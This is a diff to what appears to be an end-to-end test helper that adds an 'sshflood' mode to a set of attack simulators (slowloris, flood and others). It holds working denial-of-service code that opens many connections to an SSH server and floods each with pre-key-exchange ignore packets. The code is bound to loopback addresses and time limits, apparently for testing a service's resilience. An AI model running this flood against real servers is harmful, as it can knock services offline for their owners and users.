@@ -5,6 +5,7 @@
     python -m tests.e2e.attackers slowloris HOST PORT --from 127.0.0.10-49  (40 addresses)
     python -m tests.e2e.attackers squat URL ROOM --from 127.0.0.2
     python -m tests.e2e.attackers flood URL --from 127.0.0.2 --conns 200 --rate 100
+    python -m tests.e2e.attackers sshflood HOST PORT --from 127.0.0.2 --conns 10
 
 Each runs until its bound (attempts or --seconds) and prints what it got as `key value` lines,
 so a test can read them from its log. Every socket is bound to a loopback source address.
@@ -16,6 +17,7 @@ import argparse
 import asyncio
 import collections
 import contextlib
+import struct
 import sys
 from typing import Any
 
@@ -227,6 +229,59 @@ async def flood(args: argparse.Namespace) -> None:
     report("refused_conns", refused_conns)
 
 
+def ssh_packet(payload: bytes) -> bytes:
+    """`payload` as an SSH binary packet before any key is agreed: no cipher, no MAC."""
+    pad = 8 - (5 + len(payload)) % 8
+    pad += 8 if pad < 4 else 0
+    return struct.pack(">IB", 1 + len(payload) + pad, pad) + payload + bytes(pad)
+
+
+async def sshflood(args: argparse.Namespace) -> None:
+    """`conns` connections to an SSH server that never log in: each sends its version line,
+    then SSH_MSG_IGNORE packets as fast as the server reads them (no key exchange: the
+    packets cost the server a parse each and the sender nothing), and connects again
+    whenever it is dropped, for `seconds`."""
+    block = ssh_packet(b"\x02" + struct.pack(">I", 0)) * 4096
+    loop = asyncio.get_running_loop()
+    deadline = loop.time() + args.seconds
+    sent = refused_conns = connected = 0
+
+    async def one(address: str) -> None:
+        nonlocal sent, refused_conns, connected
+        while loop.time() < deadline:
+            try:
+                _, writer = await asyncio.open_connection(args.host, args.port,
+                                                          local_addr=(address, 0))
+            except OSError:
+                refused_conns += 1
+                await asyncio.sleep(0.5)
+                continue
+            connected += 1
+            try:
+                writer.write(b"SSH-2.0-OpenSSH_9.6\r\n")
+                while loop.time() < deadline:
+                    writer.write(block)
+                    await writer.drain()
+                    sent += len(block)
+            except OSError:
+                pass
+            writer.close()
+            connected -= 1
+
+    async def progress() -> None:
+        while True:
+            before = sent
+            await asyncio.sleep(5.0)
+            report("sending", f"{(sent - before) / 5.0 / 1024:.0f} KiB/s on {connected} of"
+                   f" {args.conns} ({refused_conns} refused)")
+
+    told = asyncio.create_task(progress())
+    await asyncio.gather(*(one(address) for address in addresses(args.address)
+                           for _ in range(args.conns)))
+    told.cancel()
+    report("sent", sent)
+
+
 async def read_all(ws: aiohttp.ClientWebSocketResponse) -> None:
     """Read and forget everything, like a client that keeps up."""
     async for _ in ws:
@@ -237,9 +292,9 @@ def parse(argv: list[str]) -> argparse.Namespace:
     """The attack and its bounds."""
     parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
     kinds = parser.add_subparsers(dest="kind", required=True)
-    for name in ("rooms", "slowloris", "squat", "flood"):
+    for name in ("rooms", "slowloris", "squat", "flood", "sshflood"):
         sub = kinds.add_parser(name)
-        if name == "slowloris":
+        if name in ("slowloris", "sshflood"):
             sub.add_argument("host")
             sub.add_argument("port", type=int)
         else:
@@ -260,7 +315,7 @@ def main(argv: list[str] | None = None) -> int:
     """Run one attack to its bound."""
     args = parse(sys.argv[1:] if argv is None else argv)
     attack: dict[str, Any] = {"rooms": rooms, "slowloris": slowloris, "squat": squat,
-                              "flood": flood}
+                              "flood": flood, "sshflood": sshflood}
     asyncio.run(attack[args.kind](args))
     report("done", args.kind)
     return 0
